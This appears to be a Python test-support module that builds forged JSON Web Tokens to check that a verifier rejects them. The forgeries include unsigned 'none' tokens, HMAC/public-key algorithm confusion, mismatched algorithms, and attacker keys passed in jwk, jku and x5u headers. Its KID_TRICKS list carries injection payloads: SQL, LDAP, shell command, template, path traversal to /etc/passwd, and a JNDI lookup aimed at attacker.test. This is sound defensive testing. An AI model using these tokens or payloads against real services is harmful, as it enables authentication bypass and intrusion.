"""Attacks on how a token is signed: without a key, or with one that is not for it."""

import json
from base64 import b64encode
from collections.abc import Callable
from functools import partial
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.support.tokens import (
    AUDIENCE,
    ISSUER,
    KIDS,
    claims,
    issuers_jwks,
    jwk,
    part,
    pem,
    private,
    resealed,
    signed,
    token,
)
from tests.token_attacks.family import ED, P256, RSA, Attack, each

# No signature, or none that could count.


def unsigned(algorithm: Any) -> dict[str, Attack]:
    """A token that says it needs no signature: without one, and with that of a good token."""
    head: dict[str, Any] = {"typ": "JWT"} if algorithm is ... else {"typ": "JWT", "alg": algorithm}
    shown = "left out" if algorithm is ... else repr(algorithm)
    return {
        f"alg {shown}, the signature empty": lambda: part(head) + b"." + part(claims()) + b".",
        f"alg {shown}, the signature a zero byte": lambda: part(head) + b"." + part(claims()) + b".AA",
        f"alg {shown}, the signature of a good token": lambda: resealed(token(), header=part(head)),
        f"alg {shown}, signed by the issuer": lambda: signed(head, claims(), private(RSA), RSA),
    }


NOT_ALGORITHMS = [
    *("none", "None", "NONE", "nOnE", "none ", "none\x00", ""),
    *(None, ..., 0, True, ["RS256"], {"alg": "RS256"}),
]
NONE = {name: attack for algorithm in NOT_ALGORITHMS for name, attack in unsigned(algorithm).items()}


# A public key taken for a secret (RFC 8725, section 2.1).


def forms(algorithm: str) -> dict[str, Callable[[], bytes]]:
    """What an attacker may have of a public key, in the forms that a careless server may hold it in."""

    def public(encoding: Encoding, form: PublicFormat) -> bytes:
        found: bytes = private(algorithm).public_key().public_bytes(encoding, form)
        return found

    def published(**members: Any) -> dict[str, Any]:
        return jwk(private(algorithm), **members)

    spki = PublicFormat.SubjectPublicKeyInfo
    found: dict[str, Callable[[], bytes]] = {
        "PEM": lambda: pem(private(algorithm)),
        "PEM without its last line break": lambda: pem(private(algorithm)).rstrip(),
        "PEM with CRLF": lambda: pem(private(algorithm)).replace(b"\n", b"\r\n"),
        "PEM in one line": lambda: pem(private(algorithm)).replace(b"\n", b""),
        "DER": lambda: public(Encoding.DER, spki),
        "DER in base64": lambda: b64encode(public(Encoding.DER, spki)),
        "JWK": lambda: json.dumps(published(kid=KIDS[algorithm])).encode(),
        "JWK without spaces": lambda: json.dumps(published(), separators=(",", ":")).encode(),
        "JWK as it is published": lambda: json.dumps(published(kid=KIDS[algorithm], use="sig")).encode(),
    }
    if algorithm == RSA:
        found |= {
            "PKCS1 in PEM": lambda: public(Encoding.PEM, PublicFormat.PKCS1),
            "PKCS1 in DER": lambda: public(Encoding.DER, PublicFormat.PKCS1),
            "modulus": lambda: private(RSA).public_key().public_numbers().n.to_bytes(256),
            "modulus in base64url": lambda: bytes(published()["n"], "ascii"),
            "OpenSSH form": lambda: public(Encoding.OpenSSH, PublicFormat.OpenSSH),
        }
    if algorithm == P256:
        found |= {
            "point": lambda: public(Encoding.X962, PublicFormat.UncompressedPoint),
            "compressed point": lambda: public(Encoding.X962, PublicFormat.CompressedPoint),
        }
    if algorithm == ED:
        found |= {"raw bytes": lambda: public(Encoding.Raw, PublicFormat.Raw)}
    return found


def confused(hmac: str, kid: str | None, secret: Callable[[], bytes]) -> bytes:
    head = {"alg": hmac, "typ": "JWT"} | ({} if kid is None else {"kid": kid})
    return signed(head, claims(), secret(), hmac)


GUESSES = {
    "nothing": b"",
    "a zero byte": b"\x00",
    "secret": b"secret",
    "32 zero bytes": bytes(32),
    "the issuer": ISSUER.encode(),
    "the audience": AUDIENCE.encode(),
    "the kid": KIDS[RSA].encode(),
}
CONFUSION: dict[str, Attack] = {
    **{
        f"HS256 with the {algorithm} key's {name} for a secret": partial(
            confused, "HS256", KIDS[algorithm], form
        )
        for algorithm in (RSA, P256, ED)
        for name, form in forms(algorithm).items()
    },
    **{
        f"{hmac} with the RS256 key's PEM for a secret, kid {kid}": partial(
            confused, hmac, kid, forms(RSA)["PEM"]
        )
        for hmac in ("HS256", "HS384", "HS512")
        for kid in (None, "of nobody")
    },
    **each(
        "HS256 with a secret that can be guessed:",
        lambda secret: confused("HS256", None, lambda: secret),
        GUESSES,
    ),
    "HS256 with the whole JWKS for a secret": lambda: confused("HS256", KIDS[RSA], issuers_jwks),
    "HS256 with the content of /dev/null under its path for a kid": lambda: confused(
        "HS256", "/dev/null", bytes
    ),
    "HS256 with a secret of the issuer's, where HS256 was not asked for": lambda: token("HS256"),
    "HS256 with the kid itself for a secret": lambda: confused("HS256", "k", lambda: b"k"),
}


# The issuer's key with an algorithm that is not its own.


def other(key: str, algorithm: str, named: str | None = None) -> bytes:
    """Signed with the issuer's key for `key`, but by `algorithm`; the header says `named`."""
    return signed({"alg": named or algorithm, "kid": KIDS[key]}, claims(), private(key), algorithm)


OTHER_ALGORITHMS: dict[str, Attack] = {
    **each("the RSA key by", partial(other, RSA), ["RS384", "RS512", "PS256", "PS384", "PS512"]),
    **each("the P-256 key by", partial(other, P256), ["ES384", "ES512"]),
    **each(
        "an RS256 signature that is called",
        lambda name: other(RSA, RSA, name),
        ["PS256", "ES256", "EdDSA", "rs256", "RS256 ", "RS-256", "RSA", "RSA-OAEP", "dir", "RS1"],
    ),
    **each("a PS256 signature that is called", lambda name: other(RSA, "PS256", name), ["RS256"]),
    **each(
        "an ES256 signature that is called",
        lambda name: other(P256, P256, name),
        ["RS256", "EdDSA", "ES384", "ES512", "ES256K", "es256"],
    ),
    **each(
        "an EdDSA signature that is called",
        lambda name: other(ED, ED, name),
        ["RS256", "ES256", "Ed25519", "Ed448", "eddsa"],
    ),
    "an RS256 signature under the kid of the P-256 key": lambda: token(RSA, header={"kid": KIDS[P256]}),
    "an ES256 signature under the kid of the Ed25519 key": lambda: token(P256, header={"kid": KIDS[ED]}),
    "an EdDSA signature under the kid of the RSA key": lambda: token(ED, header={"kid": KIDS[RSA]}),
    "signed with the issuer's key for encryption": lambda: signed(
        {"alg": RSA, "kid": "enc-1"}, claims(), private(RSA, "encryption"), RSA
    ),
}


# Another's key, and a header that is to make it count (RFC 8725, section 3.10).


def forged(algorithm: str, members: dict[str, Any]) -> bytes:
    head = {"alg": algorithm, "typ": "JWT"} | members
    return signed(head, claims(), private(algorithm, "attacker"), algorithm)


def with_its_jwk(algorithm: str, kid: str) -> bytes:
    return forged(algorithm, {"jwk": jwk(private(algorithm, "attacker"), kid=kid), "kid": kid})


KID_TRICKS = {
    "a path to nothing": "../../../../../../dev/null",
    "a file of the system": "/proc/sys/kernel/randomize_va_space",
    "a file URL": "file:///etc/passwd",
    "a URL": "https://attacker.test/key",
    "SQL": "x' UNION SELECT 'secret' --",
    "SQL that is always true": "' OR '1'='1",
    "LDAP": "*)(uid=*))(|(uid=*",
    "a command": "rsa-1; sleep 9",
    "a command in backquotes": "`sleep 9`",
    "a template": "{{7*7}}",
    "a lookup": "${jndi:ldap://attacker.test/a}",
    "a format": "%s%s%n{0.__class__}",
    "a Python name": "__class__",
    "a line break": "rsa-1\r\nauthorization: Bearer x",
    "a zero byte": "rsa-1\x00.attacker",
    "a terminal's escapes": "\x1b[2Jrsa-1",
    "other case": "RSA-1",
    "a space after": "rsa-1 ",
    "a look-alike": "rsa\u20111",
    "a prefix": "rsa",
    "a half surrogate": "\ud800",
    "nothing": "",
    "2000 letters": "k" * 2000,
}
ALMOST = {name: KID_TRICKS[name] for name in ("other case", "a space after", "a prefix", "a look-alike")}
NO_KIDS = {"a number": 1, "true": True, "a list": ["rsa-1"], "an object": {"kid": "rsa-1"}, "a fraction": 0.5}
URLS = [
    "https://attacker.test/jwks",
    "http://127.0.0.1:1/jwks",
    "file:///jwks",
    f"{ISSUER}jwks",
    "https://issuer.test@attacker.test/",
    "data:application/json,{}",
]

FORGED: dict[str, Attack] = {
    **each("another's key, without a kid, by", lambda name: forged(name, {}), [RSA, P256, ED]),
    **each(
        "another's key under the issuer's kid, by",
        lambda name: forged(name, {"kid": KIDS[name]}),
        [RSA, P256, ED],
    ),
    **each(
        "another's key that the header has as jwk, by",
        lambda name: with_its_jwk(name, "mine"),
        [RSA, P256, ED],
    ),
    **each(
        "another's key as jwk under the issuer's kid, by",
        lambda name: with_its_jwk(name, KIDS[name]),
        [RSA, P256, ED],
    ),
    **each("another's key behind jku", lambda url: forged(RSA, {"jku": url, "kid": "mine"}), URLS),
    **each(
        "another's key behind x5u",
        lambda url: forged(RSA, {"x5u": url}),
        ["https://attacker.test/cert", "file:///tls/tls.crt"],
    ),
    **each("another's key and x5c", lambda chain: forged(RSA, {"x5c": chain}), [["MIIB"], [], "MIIB"]),
    "another's key and a thumbprint": lambda: forged(RSA, {"x5t": "dGh1bWI", "x5t#S256": "dGh1bWI"}),
    **each("another's key under a kid of", lambda kid: forged(RSA, {"kid": kid}), KID_TRICKS),
    **each("another's key under a kid that is", lambda kid: forged(RSA, {"kid": kid}), NO_KIDS),
    **each("the issuer's key under a kid of", lambda kid: token(RSA, header={"kid": kid}), ALMOST),
    **each("the issuer's key under a kid that is", lambda kid: token(RSA, header={"kid": kid}), NO_KIDS),
}

KEYS = NONE | CONFUSION | OTHER_ALGORITHMS | FORGED
